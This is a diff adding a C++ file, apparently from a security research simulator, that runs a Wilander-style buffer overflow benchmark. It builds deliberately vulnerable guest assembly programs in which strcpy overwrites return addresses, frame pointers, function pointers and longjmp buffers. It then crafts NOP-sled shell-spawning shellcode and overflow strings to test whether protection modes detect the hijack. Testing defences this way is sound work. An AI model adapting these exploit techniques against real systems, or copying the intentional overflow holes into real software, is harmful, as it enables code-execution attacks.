@@ -1,0 +1,421 @@
+#include "attacks/wilander.h"
+
+#include <cstdio>
+#include <stdexcept>
+
+#include "attacks/shellcode.h"
+#include "guest/guestlib.h"
+#include "image/image.h"
+#include "kernel/kernel.h"
+
+namespace sm::attacks::wilander {
+
+namespace {
+
+using arch::u8;
+
+// Overflow distance from the start of the vulnerable buffer to the control
+// vector, fixed by the victim's frame layout below.
+u32 filler_bytes(Technique t) {
+  switch (t) {
+    case Technique::kReturnAddress:
+      return 76;  // 72-byte frame + saved fp
+    case Technique::kOldBasePointer:
+      return 72;  // up to the saved fp only
+    case Technique::kFuncPtrLocal:
+      return 64;  // buf[64] then the pointer at fp-8
+    case Technique::kFuncPtrParam:
+      return 80;  // 72 + saved fp + return address, then the parameter
+    case Technique::kLongjmpLocal:
+      return 72;  // buf then jmp_buf.pc at fp-12
+    case Technique::kLongjmpParam:
+      return 64;  // caller's buf[64] then the caller's jmp_buf.pc
+  }
+  return 0;
+}
+
+std::string carrier_setup(Segment s) {
+  switch (s) {
+    case Segment::kData:
+    case Segment::kBss: {
+      return R"(
+  movi r2, wl_carrier
+  movi r4, carrier_ptr
+  store [r4], r2
+)";
+    }
+    case Segment::kHeap:
+      return R"(
+  movi r1, 1024
+  call malloc
+  movi r4, carrier_ptr
+  store [r4], r0
+)";
+    case Segment::kStack:
+      // Deep below the working stack so ordinary call frames never touch it.
+      return R"(
+  mov r2, sp
+  movi r3, 2048
+  sub r2, r3
+  movi r4, carrier_ptr
+  store [r4], r2
+)";
+  }
+  return "";
+}
+
+std::string carrier_storage(Segment s) {
+  switch (s) {
+    case Segment::kData:
+      return ".data\nwl_carrier: .space 1024\n";
+    case Segment::kBss:
+      return ".bss\nwl_carrier: .space 1024\n";
+    default:
+      return "";
+  }
+}
+
+std::string trigger_source(Technique t) {
+  switch (t) {
+    case Technique::kReturnAddress:
+      return R"(
+trigger:
+  push fp
+  mov fp, sp
+  movi r2, 72
+  sub sp, r2
+  mov r1, fp
+  movi r2, 72
+  sub r1, r2
+  movi r2, staging
+  call strcpy            ; overflows through the saved fp into the ret addr
+  mov sp, fp
+  pop fp
+  ret                    ; pops the attacker's address
+)";
+    case Technique::kOldBasePointer:
+      // The overflow writes the 4-byte fake-frame address over the saved
+      // fp; strcpy's NUL terminator then lands on the LOW BYTE of the
+      // saved return address. The classic exploit trick: arrange for the
+      // victim call's return address to END in 0x00 so the terminator is
+      // a no-op. We pad the call site to a 256-byte boundary.
+      return R"(
+trigger:
+  push fp
+  mov fp, sp
+  jmp bp_call
+  .align 256
+  .space 251, 0x90
+bp_call:
+  call bp_victim         ; 5 bytes: the return address ends in 0x00
+  mov sp, fp             ; fp was corrupted by the callee's epilogue:
+  pop fp                 ; this unwinds into the attacker's fake frame
+  ret
+bp_victim:
+  push fp
+  mov fp, sp
+  movi r2, 72
+  sub sp, r2
+  mov r1, fp
+  movi r2, 72
+  sub r1, r2
+  movi r2, staging
+  call strcpy            ; overwrites ONLY the saved frame pointer
+  mov sp, fp
+  pop fp                 ; loads the attacker's fake-frame address
+  ret                    ; returns normally; the caller unwinds the fake
+)";
+    case Technique::kFuncPtrLocal:
+      return R"(
+trigger:
+  push fp
+  mov fp, sp
+  movi r2, 72
+  sub sp, r2
+  movi r2, benign
+  store [fp-8], r2       ; local function pointer above buf[64]
+  mov r1, fp
+  movi r2, 72
+  sub r1, r2
+  movi r2, staging
+  call strcpy
+  load r2, [fp-8]
+  callr r2               ; indirect call through the clobbered pointer
+  mov sp, fp
+  pop fp
+  ret
+)";
+    case Technique::kFuncPtrParam:
+      return R"(
+trigger:
+  push fp
+  mov fp, sp
+  movi r2, benign
+  push r2                ; function pointer passed as a stack parameter
+  call fpp_victim
+  addi sp, 4
+  mov sp, fp
+  pop fp
+  ret
+fpp_victim:
+  push fp
+  mov fp, sp
+  movi r2, 72
+  sub sp, r2
+  mov r1, fp
+  movi r2, 72
+  sub r1, r2
+  movi r2, staging
+  call strcpy            ; overflow reaches the parameter at fp+8
+  load r2, [fp+8]
+  callr r2
+  mov sp, fp
+  pop fp
+  ret
+)";
+    case Technique::kLongjmpLocal:
+      return R"(
+trigger:
+  push fp
+  mov fp, sp
+  movi r2, 84
+  sub sp, r2             ; buf at fp-84 (72 bytes), jmp_buf at fp-12
+  mov r1, fp
+  movi r2, 12
+  sub r1, r2
+  call setjmp
+  cmpi r0, 0
+  jnz lj_out
+  mov r1, fp
+  movi r2, 84
+  sub r1, r2
+  movi r2, staging
+  call strcpy            ; clobbers jmp_buf.pc
+  mov r1, fp
+  movi r2, 12
+  sub r1, r2
+  movi r2, 1
+  call longjmp           ; jumps to the attacker's address
+lj_out:
+  mov sp, fp
+  pop fp
+  ret
+)";
+    case Technique::kLongjmpParam:
+      return R"(
+trigger:
+  push fp
+  mov fp, sp
+  movi r2, 84
+  sub sp, r2             ; buf at fp-76 (64 bytes), jmp_buf at fp-12
+  mov r1, fp
+  movi r2, 12
+  sub r1, r2
+  call setjmp
+  cmpi r0, 0
+  jnz ljp_out
+  mov r1, fp
+  movi r2, 76
+  sub r1, r2
+  call ljp_copy          ; callee overflows the buffer we handed it
+  mov r1, fp
+  movi r2, 12
+  sub r1, r2
+  movi r2, 1
+  call longjmp
+ljp_out:
+  mov sp, fp
+  pop fp
+  ret
+ljp_copy:
+  movi r2, staging
+  call strcpy
+  ret
+)";
+  }
+  return "";
+}
+
+}  // namespace
+
+const char* to_string(Technique t) {
+  switch (t) {
+    case Technique::kReturnAddress:
+      return "ret-addr";
+    case Technique::kOldBasePointer:
+      return "base-ptr";
+    case Technique::kFuncPtrLocal:
+      return "funcptr-local";
+    case Technique::kFuncPtrParam:
+      return "funcptr-param";
+    case Technique::kLongjmpLocal:
+      return "longjmp-local";
+    case Technique::kLongjmpParam:
+      return "longjmp-param";
+  }
+  return "?";
+}
+
+const char* to_string(Segment s) {
+  switch (s) {
+    case Segment::kStack:
+      return "stack";
+    case Segment::kHeap:
+      return "heap";
+    case Segment::kBss:
+      return "bss";
+    case Segment::kData:
+      return "data";
+  }
+  return "?";
+}
+
+bool applicable(Technique t, Segment s) {
+  if (t == Technique::kOldBasePointer && s != Segment::kStack) return false;
+  if (t == Technique::kLongjmpParam && s == Segment::kData) return false;
+  return true;
+}
+
+std::string victim_source(Technique t, Segment s) {
+  std::string src = R"(
+_start:
+  call malloc_init
+)";
+  src += carrier_setup(s);
+  src += R"(
+  ; leak the carrier address (the benchmark runs with full knowledge of
+  ; target addresses, like Wilander's in-process testbed)
+  movi r4, carrier_ptr
+  load r2, [r4]
+  movi r1, FD_NET
+  call put_hex_fd
+  ; stage 1: injected code lands in the chosen segment
+  movi r4, carrier_ptr
+  load r2, [r4]
+  movi r1, FD_NET
+  movi r3, 1024
+  call read_n
+  ; stage 2: the overflow string
+  movi r1, FD_NET
+  movi r2, staging
+  movi r3, 1200
+  call read_line
+  call trigger
+  movi r1, msg_no
+  call print
+  movi r0, SYS_EXIT
+  movi r1, 1
+  syscall
+
+benign:
+  ret
+)";
+  src += trigger_source(t);
+  src += R"(
+.data
+msg_no: .asciz "no hijack\n"
+carrier_ptr: .word 0
+staging: .space 1216
+)";
+  src += carrier_storage(s);
+  return src;
+}
+
+CaseResult run_case(Technique t, Segment s, core::ProtectionMode mode) {
+  CaseResult res;
+  res.technique = t;
+  res.segment = s;
+  res.applicable = applicable(t, s);
+  if (!res.applicable) {
+    res.detail = "N/A";
+    return res;
+  }
+
+  kernel::Kernel k;
+  k.set_engine(core::make_engine(mode));
+  const auto program = assembler::assemble(guest::program(victim_source(t, s)));
+  image::BuildOptions opts;
+  opts.name = "wilander";
+  k.register_image(image::build_image(program, opts));
+  const kernel::Pid pid = k.spawn("wilander");
+  auto chan = k.attach_channel(pid);
+
+  // Run until the victim leaks the carrier address and blocks on read.
+  k.run(5'000'000);
+  const std::string leak = chan->host_read_string();
+  if (leak.size() < 11 || leak.substr(0, 2) != "0x") {
+    res.detail = "victim did not leak the carrier address";
+    return res;
+  }
+  const u32 carrier = static_cast<u32>(std::stoul(leak.substr(2, 8), nullptr, 16));
+
+  // Craft stage 1 (shellcode in the carrier) and the jump target.
+  std::vector<u8> stage(1024, 0);
+  u32 target = 0;
+  if (t == Technique::kOldBasePointer) {
+    // Fake frame [fake_fp][fake_ret] followed by the NOP sled + shellcode.
+    const u32 frame_addr = pick_string_safe_address(carrier, 1024 - 400);
+    const u32 frame_off = frame_addr - carrier;
+    const u32 sled_off = frame_off + 8;
+    const u32 sled_len = 320;
+    target = pick_string_safe_address(carrier + sled_off, sled_len - 8);
+    ShellcodeBuilder fake;
+    fake.word(0x41414141).word(target);
+    const auto frame_bytes = fake.build();
+    std::copy(frame_bytes.begin(), frame_bytes.end(),
+              stage.begin() + frame_off);
+    ShellcodeBuilder sc;
+    sc.nop_sled(sled_len);
+    const auto payload = spawn_shell_shellcode();
+    auto sled = sc.build();
+    std::copy(sled.begin(), sled.end(), stage.begin() + sled_off);
+    std::copy(payload.begin(), payload.end(),
+              stage.begin() + sled_off + sled_len);
+    target = frame_addr;  // overflow value = fake frame address
+  } else {
+    const u32 sled_len = 600;
+    ShellcodeBuilder sc;
+    sc.nop_sled(sled_len).raw(spawn_shell_shellcode());
+    const auto bytes = sc.build();
+    std::copy(bytes.begin(), bytes.end(), stage.begin());
+    target = pick_string_safe_address(carrier, sled_len - 8);
+  }
+  chan->host_write(stage);
+
+  // Stage 2: NUL-free filler + the 4-byte overwrite value + newline.
+  std::string overflow(filler_bytes(t), 'A');
+  for (int i = 0; i < 4; ++i) {
+    overflow.push_back(static_cast<char>(target >> (8 * i)));
+  }
+  overflow.push_back('\n');
+  chan->host_write(overflow);
+
+  k.run(20'000'000);
+
+  kernel::Process& p = *k.process(pid);
+  res.shell_spawned = p.shell_spawned;
+  res.detected = !k.detections().empty();
+  res.victim_exit = p.exit_kind;
+  if (p.exit_kind == kernel::ExitKind::kRunning) {
+    res.detail = "victim still running/blocked";
+  } else if (res.shell_spawned) {
+    res.detail = "shell spawned";
+  } else if (res.detected) {
+    res.detail = "injected code execution prevented";
+  } else {
+    res.detail = p.console.empty() ? "victim died" : p.console;
+  }
+  return res;
+}
+
+std::vector<CaseResult> run_all(core::ProtectionMode mode) {
+  std::vector<CaseResult> out;
+  for (const Technique t : kAllTechniques) {
+    for (const Segment s : kAllSegments) {
+      out.push_back(run_case(t, s, mode));
+    }
+  }
+  return out;
+}
+
+}  // namespace sm::attacks::wilander
